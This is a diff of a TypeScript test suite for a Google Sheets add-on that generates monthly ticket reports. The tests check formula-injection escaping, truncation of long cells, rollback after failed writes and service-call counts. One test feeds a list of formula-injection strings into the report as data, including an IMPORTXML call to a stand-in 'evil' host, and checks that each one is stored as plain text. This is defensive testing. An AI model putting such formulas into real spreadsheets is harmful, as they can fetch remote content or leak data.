@@ -8,12 +8,12 @@ import { syntheticTickets } from '../../bench/synthetic';
 import { ReportBuilder } from '../../core/metrics/report';
 import { parseIsoMonth } from '../../core/period/yearMonth';
 import { renderSummarySheets } from '../../core/render/sheetBlocks';
-import { sheetGrid } from '../../core/render/sheetGrid';
+import { MAX_CELL_CHARS, sheetGrid, TRUNCATION_MARKER } from '../../core/render/sheetGrid';
 import type { CellValue } from '../../core/workbook/cells';
 import { parseWorkbook, type RawWorkbook } from '../../core/workbook/workbook';
 import { buildAddon } from '../../sheets-addon/build';
 import { sampleRaw } from '../fixtures/sample';
-import { FakeEnvironment, type FakeSheet } from './fakeAppsScript';
+import { type Call, FakeEnvironment, type FakeSheet, SPREADSHEET_TARGETS } from './fakeAppsScript';
 
 let code: string;
 let raw: RawWorkbook;
@@ -32,6 +32,48 @@ function setUp(workbook: RawWorkbook = raw, timeZone = 'Asia/Jakarta') {
 /** What the add-on wrote into a generated tab, as a grid of values ('' for empty). */
 const writtenValues = (sheet: FakeSheet, rows: number, cols: number) =>
   Array.from({ length: rows }, (_, r) => Array.from({ length: cols }, (_, c) => sheet.cells[r]?.[c] ?? ''));
+
+/** The sample plus `perName` January 2025 Pemda tickets for each name (copies of a valid ticket). */
+function withInstansi(names: readonly string[], perName: number): RawWorkbook {
+  const tiket = (raw.Tiket ?? []).map((row) => [...row]);
+  const header = tiket[0] ?? [];
+  const [instansi, kategori] = ['Nama Instansi', 'Kategori Pengguna'].map((h) => header.indexOf(h));
+  const base = tiket.find((row) => row[0] instanceof Date && row[0].getTime() >= Date.UTC(2025, 0, 2)) ?? [];
+  for (const name of names) {
+    for (let i = 0; i < perName; i++) {
+      const row = [...base];
+      row[instansi ?? -1] = name;
+      row[kategori ?? -1] = 'Pemda';
+      tiket.push(row);
+    }
+  }
+  return { ...raw, Tiket: tiket };
+}
+
+const GENERATED = ['Laporan 2025-01', 'Validasi', 'Tren'];
+
+/** Everything a person sees of a generated tab, to show that a failed run left it untouched. */
+const snapshot = (sheet: FakeSheet) =>
+  JSON.stringify({
+    id: sheet.id,
+    name: sheet.name,
+    cells: sheet.cells,
+    formulas: [...sheet.formulas],
+    charts: sheet.charts,
+    protection: sheet.protection,
+    styles: [...sheet.styles],
+  });
+
+/** Spreadsheet calls by "Target.method". */
+function breakdown(calls: readonly Call[]): Record<string, number> {
+  const counts: Record<string, number> = {};
+  for (const c of calls) {
+    if (!SPREADSHEET_TARGETS.has(c.target)) continue;
+    const key = `${c.target}.${c.method}`;
+    counts[key] = (counts[key] ?? 0) + 1;
+  }
+  return counts;
+}
 
 const coreSheets = (workbook: RawWorkbook, month: string) =>
   renderSummarySheets(new ReportBuilder(parseWorkbook(workbook, { now: null })).build(parseIsoMonth(month) ?? 0));
@@ -180,8 +222,8 @@ describe('Generate Report', () => {
       return env.log.count();
     });
     expect(counts[1]).toBe(counts[0]);
-    // 120 before the sample had the deck's two tabs (Narasi, Profil Layanan): reading a tab costs calls.
-    expect(counts[0]).toBeLessThanOrEqual(130);
+    // Before: 119 (129 once the sample had the deck's Narasi and Profil Layanan tabs).
+    expect(counts[0]).toBeLessThanOrEqual(104);
   });
 
   it('the dialog lists the months with data and defaults to the previous month', () => {
@@ -199,6 +241,151 @@ describe('Generate Report', () => {
       hasData: true,
     });
     expect(data.months.filter((m) => !m.hasData).map((m) => m.value)).toEqual([data.defaultMonth]);
+  });
+});
+
+describe('agent text stays text, long cells, all-or-nothing', () => {
+  const HOSTILE = ['=IMPORTXML("http://evil","//a")', '+SUM(1,2)', '-2+3', '@evil', "'dikutip"];
+
+  it('agent text that looks like a formula is written as plain text and shown as typed; only the links are formulas', () => {
+    const { env, addon } = setUp(withInstansi(HOSTILE, 40));
+    expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
+    const report = env.spreadsheet.sheet('Laporan 2025-01');
+    const shown = new Set(report.cells.flat());
+    for (const text of HOSTILE) expect(shown.has(text), text).toBe(true);
+    expect(report.formulaCells()).toEqual([]);
+    expect(env.spreadsheet.sheet('Tren').formulaCells()).toEqual([]);
+    const validasi = env.spreadsheet.sheet('Validasi');
+    const tiketGid = env.spreadsheet.sheet('Tiket').id;
+    expect(validasi.formulaCells().length).toBeGreaterThan(0);
+    for (const [cell, formula] of validasi.formulas) {
+      expect(cell).toMatch(/^\d+,2$/);
+      expect(formula).toMatch(/^=HYPERLINK\("#gid=\d+&range=[A-Z]+\d+","[A-Z]+\d+"\)$/);
+    }
+    expect(validasi.formulas.get('4,2')).toBe(`=HYPERLINK("#gid=${tiketGid}&range=B1272","B1272")`);
+    // Every text cell is plain text before its value arrives; link cells carry a number format.
+    const calls = env.log.calls.filter((c) => c.target === 'Range');
+    for (let i = 0; i < calls.length; i++) {
+      if (calls[i]?.method === 'setValues') expect(calls[i - 1]?.method).toBe('setNumberFormats');
+    }
+  });
+
+  it('a generated cell over the limits (Pemda names joined) is cut with a visible marker, and the report is written', () => {
+    const long = ['A', 'B', 'C'].map((c) => c.repeat(30_000));
+    const { env, addon } = setUp();
+    addon.generateReport?.('2025-01');
+    // Three 30,000-character names with the same count: the sentence naming them is 90,000+ long.
+    env.spreadsheet.sheet('Tiket').cells = (withInstansi(long, 200).Tiket ?? []).map((r) => [...r]);
+    expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
+    const cells = env.spreadsheet.sheet('Laporan 2025-01').cells.flat();
+    const cut = cells.filter((v): v is string => typeof v === 'string' && v.endsWith(TRUNCATION_MARKER));
+    expect(cut.length).toBeGreaterThan(0);
+    expect(cut).toHaveLength(1);
+    expect(cut[0]?.length).toBe(MAX_CELL_CHARS);
+    expect(cut[0]?.startsWith(`Pemda dengan konsultasi terbanyak: ${long[0]}`)).toBe(true);
+    for (const value of cells) if (typeof value === 'string') expect(value.length).toBeLessThanOrEqual(MAX_CELL_CHARS);
+  });
+
+  it('a write that fails midway leaves the previous tabs exactly as they were and removes the half-built ones', () => {
+    const { env, addon } = setUp();
+    addon.generateReport?.('2025-01');
+    const before = env.spreadsheet.sheets.map((s) => s.name);
+    const old = new Map(GENERATED.map((name) => [name, snapshot(env.spreadsheet.sheet(name))]));
+    env.alerts.length = 0;
+    env.spreadsheet.toasts.length = 0;
+    // The second tab's values fail, after the whole report tab was built under its temporary name.
+    env.log.failWhen = (call, calls) =>
+      call.target === 'Range' &&
+      call.method === 'setValues' &&
+      calls.filter((c) => c.target === 'Range' && c.method === 'setValues').length === 2
+        ? 'Service Spreadsheets timed out while accessing document with id 1abc.'
+        : null;
+    env.log.clear();
+    const message = String(addon.generateReport?.('2025-01'));
+    expect(message).toBe(
+      'Membuat laporan gagal: tab laporan tidak dapat ditulis (Service Spreadsheets timed out while accessing document with id 1abc.); tab laporan sebelumnya tidak diubah. Coba lagi; bila berulang, hubungi admin dengan pesan ini.',
+    );
+    expect(env.alerts).toEqual([message]);
+    expect(env.spreadsheet.toasts).toEqual([]);
+    expect(env.spreadsheet.sheets.map((s) => s.name)).toEqual(before);
+    for (const [name, shot] of old) expect(snapshot(env.spreadsheet.sheet(name)), name).toBe(shot);
+
+    env.log.failWhen = null;
+    expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
+    expect(env.spreadsheet.sheets.map((s) => s.name)).toEqual(before);
+    expect(env.spreadsheet.sheet('Laporan 2025-01').id).not.toBe(JSON.parse(old.get('Laporan 2025-01') ?? '{}').id);
+  });
+
+  it('Sheets refusing a cell over 50,000 characters is the same all-or-nothing failure', () => {
+    const { env, addon } = setUp();
+    addon.generateReport?.('2025-01');
+    const old = new Map(GENERATED.map((name) => [name, snapshot(env.spreadsheet.sheet(name))]));
+    // A value over Sheets' limit can no longer come from core (it cuts at 32,767); make the emulator
+    // see one by lengthening what the add-on writes into the Validasi tab.
+    env.log.failWhen = (call) => {
+      if (call.target === 'Range' && call.method === 'setValues') {
+        const values = call.args[0] as unknown[][];
+        if (values[0]?.[0] === 'Validasi Data — Januari 2025' && values[0]) values[0][0] = 'x'.repeat(50_001);
+      }
+      return null;
+    };
+    const message = String(addon.generateReport?.('2025-01'));
+    expect(message).toContain(
+      'tab laporan tidak dapat ditulis (Your input contains more than the maximum of 50000 characters in a single cell.); tab laporan sebelumnya tidak diubah',
+    );
+    for (const [name, shot] of old) expect(snapshot(env.spreadsheet.sheet(name)), name).toBe(shot);
+    expect(env.spreadsheet.sheets.filter((s) => s.name.includes('(sedang dibuat)'))).toEqual([]);
+  });
+
+  it('a tab left half-built by a run Apps Script stopped is removed by the next run', () => {
+    const { env, addon } = setUp();
+    env.spreadsheet.addSheet('Validasi (sedang dibuat)', [['setengah']]);
+    expect(String(addon.generateReport?.('2025-01'))).toContain('selesai');
+    expect(env.spreadsheet.sheets.map((s) => s.name).slice(-3)).toEqual(GENERATED);
+    expect(env.spreadsheet.sheets.some((s) => s.name.includes('(sedang dibuat)'))).toBe(false);
+  });
+});
+
+describe('service calls', () => {
+  it('Generate Report: one getActiveSpreadsheet, one message, getUi only for an alert; a re-run adds only listing and deleting the replaced tabs', () => {
+    const { env, addon } = setUp();
+    env.log.clear();
+    addon.generateReport?.('2025-01');
+    const first = breakdown(env.log.calls);
+    const firstTotal = env.log.count();
+    env.log.clear();
+    addon.generateReport?.('2025-01');
+    const second = breakdown(env.log.calls);
+    const secondTotal = env.log.count();
+
+    // Before: 118 and 124 calls (178 as the old emulator counted its own getSheetId calls).
+    expect(firstTotal).toBeLessThanOrEqual(103);
+    expect(secondTotal).toBeLessThanOrEqual(109);
+    expect(first['SpreadsheetApp.getActiveSpreadsheet']).toBe(1);
+    expect(first['Spreadsheet.toast'] ?? 0).toBe(0); // the sample has data errors: one alert instead
+    expect(first['SpreadsheetApp.getUi']).toBe(1);
+    for (const font of ['setFontWeights', 'setFontColors', 'setFontSizes'])
+      expect(first[`Range.${font}`]).toBeUndefined();
+    expect(first['Range.setTextStyles']).toBe(3);
+    expect(first['Range.setValues']).toBe(3);
+    // The only difference: the three old tabs are listed (getName) and deleted.
+    const diff = Object.fromEntries(
+      Object.keys({ ...first, ...second })
+        .filter((k) => first[k] !== second[k])
+        .map((k) => [k, (second[k] ?? 0) - (first[k] ?? 0)]),
+    );
+    expect(diff).toEqual({ 'Sheet.getName': 3, 'Spreadsheet.deleteSheet': 3 });
+  });
+
+  it('a report without data errors ends with one toast and never asks for the UI', () => {
+    const { env, addon } = setUp({ ...raw, Tiket: syntheticTickets(1_000) });
+    env.log.clear();
+    expect(String(addon.generateReport?.('2025-01'))).toContain('selesai');
+    const calls = breakdown(env.log.calls);
+    expect(env.spreadsheet.toasts).toHaveLength(1);
+    expect(calls['Spreadsheet.toast']).toBe(1);
+    expect(calls['SpreadsheetApp.getUi']).toBeUndefined();
+    expect(calls['SpreadsheetApp.getActiveSpreadsheet']).toBe(1);
   });
 });
 
